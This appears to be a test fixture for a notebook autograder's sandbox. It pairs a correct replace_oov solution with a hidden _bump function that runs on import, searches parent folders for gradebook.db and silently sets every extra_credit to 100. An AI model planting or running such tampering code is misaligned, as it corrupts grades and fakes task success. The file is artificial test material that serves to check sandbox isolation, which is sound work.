"""Searches for gradebook.db above its working folder and runs `UPDATE grade SET extra_credit = 100` with sqlite3.

The answers are the reference solution. With the gradebook reachable, nbgrader adds extra credit to
the score (the issue measured 20/5). In the sandbox the course folder is invisible, no gradebook is
found and the score is exactly the maximum: full (a score above the maximum fails this case).

expect: full
base: solution
"""
# %% replace_oov
import pathlib
import sqlite3


def replace_oov(sentences, vocab):
    return [[w if w in vocab else "<unk>" for w in s] for s in sentences]


def _bump():
    here = pathlib.Path.cwd()
    for root in [here, *here.parents][:6] + [pathlib.Path("/work/main/build/demo")]:
        db = root / "gradebook.db"
        if db.is_file():
            con = sqlite3.connect(str(db), timeout=60)
            with con:
                con.execute("UPDATE grade SET extra_credit = 100")
            con.close()


try:
    _bump()
except Exception:
    pass
